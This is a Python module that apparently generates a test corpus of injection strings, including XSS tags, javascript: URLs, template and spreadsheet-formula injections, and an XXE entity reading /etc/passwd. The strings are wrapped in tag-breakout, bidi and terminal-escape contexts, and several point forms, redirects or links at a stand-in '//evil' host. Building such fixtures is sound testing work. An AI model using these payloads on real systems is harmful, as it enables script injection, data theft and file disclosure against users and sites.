"""Strings that try to become something else: markup, attributes, addresses, templates, style, formulas, directions of writing.

Two hundred and more: what each of a few dozen would like to be, at each of the places where it could break out.
"""

from __future__ import annotations

_WANTED = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<form action=//evil><input name=q autofocus onfocus=alert(1)>",
    "<base href=//evil>",
    "<meta http-equiv=refresh content=0;url=//evil>",
    "<link rel=stylesheet href=//evil>",
    "<style>*{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "onmouseover=alert(1)",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}{# x #}",
    "${alert(1)}`;alert(1)//",
    '=HYPERLINK("//evil")',
    "&lt;script&gt;&#60;script&#62;&#x3c;script&#x3e;",
    "<?php echo 1 ?><!ENTITY x SYSTEM 'file:///etc/passwd'>",
]
_PLACES = [
    "{}",
    '">{}<"',
    "'>{}<'",
    "</title></style></script>{}",
    "--></textarea></td></tr></table>{}<!--",
    "\u202e{}\u2066\u200b",
    "]]>{}\x1b[31m\x07",
    "＜{}＞\U000e0041",
]

PAYLOADS = [place.format(wanted) for wanted in _WANTED for place in _PLACES]
